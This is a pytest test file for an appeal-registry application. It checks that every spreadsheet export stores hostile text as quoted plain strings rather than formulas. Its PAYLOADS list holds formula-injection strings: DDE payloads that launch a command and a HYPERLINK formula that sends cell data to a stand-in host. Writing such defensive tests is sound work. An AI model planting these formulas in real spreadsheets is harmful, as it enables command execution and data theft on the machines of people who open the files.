"""Every spreadsheet the program writes keeps text as text: a hostile text in every field comes out of
every writer (journal export, report, lists, discipline) as a plain string cell, never a formula, and the
text a user sees is the text stored. Characters a worksheet cannot hold do not crash a writer."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from appealdesk import sheets
from appealdesk.reports import Period
from appealdesk.reports.document import ReportOptions
from appealdesk.reports.xlsx import write_report_xlsx
from appealdesk.services.values import (
    AnswerInput,
    AppealInput,
    ApplicantInput,
    ExtensionInput,
    OfficialInput,
    QuestionInput,
)

HEAT = "0005.0005.0056.1156"
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?d="&A1;"Подробнее")',
    "+7 (900) 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\x07звонок",  # a control character the service layer accepts
)
PHONE, EMAIL = "+7 (900) 000-00-01", "-x@example.ru"  # valid, and risky
PERIOD = Period(date(2026, 1, 1), date(2026, 12, 31))


@pytest.fixture
def hostile(desk):
    """An office whose every text field holds a formula."""
    settings = desk.settings.get()
    desk.settings.save(replace(settings, organisation=PAYLOADS[1], head_name=PAYLOADS[0], head_position=PAYLOADS[3]))
    settlement = desk.reference.add_settlement(PAYLOADS[4])
    executor = desk.reference.save_official(OfficialInput(PAYLOADS[0], position=PAYLOADS[1]))
    ids = []
    for n, p in enumerate(PAYLOADS):
        card = desk.appeals.register(AppealInput(
            form="written", kind="statement", summary=p, questions=(QuestionInput(HEAT),),
            registered_on=date(2026, 9, 1 + n), cover_letter=p, executor_id=executor.id, resolution=p,
            settlement_id=settlement.id, previous_number=p, is_repeated=True,
            applicant=ApplicantInput(last_name=p, first_name=p, middle_name=p, address=p, phone=PHONE, email=EMAIL,
                                     social_category=p, settlement_id=settlement.id),
        ))
        if n % 2:
            desk.appeals.extend(card.id, ExtensionInput(days=20, reason=p, extended_by=p,
                                                        extended_on=date(2026, 9, 20)))
        if n % 3 == 0:
            desk.appeals.answer(card.id, AnswerInput(answer_on=date(2026, 10, 1), answer_number=p, text=p,
                                                     results={card.questions[0].id: "explained"}))
        ids.append(card.id)
    org = ApplicantInput(type="organisation", org_name=PAYLOADS[2], address=PAYLOADS[3])
    desk.appeals.register(AppealInput(form="written", kind="statement", summary="Организация",
                                      questions=(QuestionInput(HEAT),), registered_on=date(2026, 9, 20),
                                      applicant=org))
    return desk


def _written(desk, folder: Path) -> dict[str, Path]:
    out = {"journal": folder / "journal.xlsx"}
    desk.exchange.export_journal(out["journal"])
    for kind in ("journal", "overdue"):
        out[f"list-{kind}"] = folder / f"list-{kind}.xlsx"
        desk.reports.write_list(kind, PERIOD, "xlsx", out[f"list-{kind}"], as_of=date(2026, 11, 20))
    report = desk.reports.build(PERIOD, compare=True)
    s = desk.settings.get()
    out["report"] = write_report_xlsx(report, folder / "report.xlsx", ReportOptions(
        signatory_position=s.head_position, signatory_name=s.head_name))
    d = desk.control.discipline(date(2026, 1, 1), date(2026, 12, 31))
    out["discipline"] = desk.control.export_discipline(d, folder / "discipline.xlsx")
    return out


def _cells(path: Path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield c


def test_every_writer_keeps_formulas_as_text(hostile, tmp_path):
    files = _written(hostile, tmp_path)
    stored = {sheets.sheet_text(p.strip()) for p in PAYLOADS}
    for name, path in files.items():
        texts = set()
        for c in _cells(path):
            assert c.data_type != "f", f"{name} {c.coordinate}: a formula {c.value!r}"
            if isinstance(c.value, str):
                texts.add(c.value)
                if sheets.is_risky(c.value):
                    assert c.quotePrefix, f"{name} {c.coordinate}: {c.value!r} without the text prefix"
        found = {p for p in stored if any(p in t for t in texts)}
        assert found, f"{name}: no hostile text written at all"
    # the journal holds every field as typed (the control character dropped, nothing else changed)
    journal_texts = {c.value for c in _cells(files["journal"]) if isinstance(c.value, str)}
    assert stored <= journal_texts
    assert "=1+1звонок" in journal_texts


def test_risky_text_keeps_its_exact_value_through_export_and_import(hostile, tmp_path):
    """The quote prefix changes no value: the exported journal imports into the same texts."""
    from appealdesk.services import AppealDesk

    path = tmp_path / "journal.xlsx"
    hostile.exchange.export_journal(path)
    other = AppealDesk.open(tmp_path / "other.sqlite3", today=lambda: date(2026, 11, 20))
    try:
        other.exchange.import_journal(path)
        before = {sheets.sheet_text(hostile.appeals.get(i).summary) for i in range(1, len(PAYLOADS) + 1)}
        after = {other.appeals.get(i).summary for i in range(1, len(PAYLOADS) + 1)}
        assert before == after
    finally:
        other.close()


@pytest.mark.parametrize(("raw", "expected"), [
    ("обычный текст", "обычный текст"),
    ("a\x00b\x01c\x1fd", "abcd"),
    ("таб\tи\nстроки\r", "таб\tи\nстроки\r"),
    ("\ud800одинокий", "\ufffdодинокий"),
    ("x\ufffey", "x\ufffdy"),
    ("я" * 40_000, "я" * (sheets.MAX_CELL_TEXT - 1) + "…"),
])
def test_sheet_text_holds_what_a_worksheet_can(raw, expected):
    assert sheets.sheet_text(raw) == expected


def test_writers_do_not_crash_on_characters_a_sheet_cannot_hold(tmp_path):
    wb = sheets.workbook()
    ws = wb.active
    sheets.write(ws, 1, 1, "Иванов\x01\ud83d")
    sheets.append(ws, ["=1\x02", 5, None])
    ws.cell(3, 1).value = "=SUM(A1:A2)"  # written around the helper: save still makes it text
    stream = sheets.workbook(write_only=True)
    ws2 = stream.create_sheet("s")
    sheets.append(ws2, ["=2+2", "\x03тихо", "@A1", "обычно", 7])
    sheets.save(wb, tmp_path / "normal.xlsx")
    sheets.save(stream, tmp_path / "stream.xlsx")
    normal = [c for c in _cells(tmp_path / "normal.xlsx")]
    assert [c.value for c in normal] == ["Иванов\ufffd", "=1", 5, "=SUM(A1:A2)"]
    assert all(c.data_type != "f" for c in normal)
    streamed = [c for c in _cells(tmp_path / "stream.xlsx")]
    assert [c.value for c in streamed] == ["=2+2", "тихо", "@A1", "обычно", 7]
    assert all(c.data_type != "f" for c in streamed)
    assert streamed[0].quotePrefix and streamed[2].quotePrefix and not streamed[3].quotePrefix


def test_only_the_helper_makes_or_saves_a_workbook():
    """One writer: no other module of the core builds or saves an openpyxl book by itself."""
    root = Path(__file__).resolve().parents[2] / "appealdesk"
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "sheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "import Workbook" in text or "Workbook(" in text or "wb.save(" in text:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
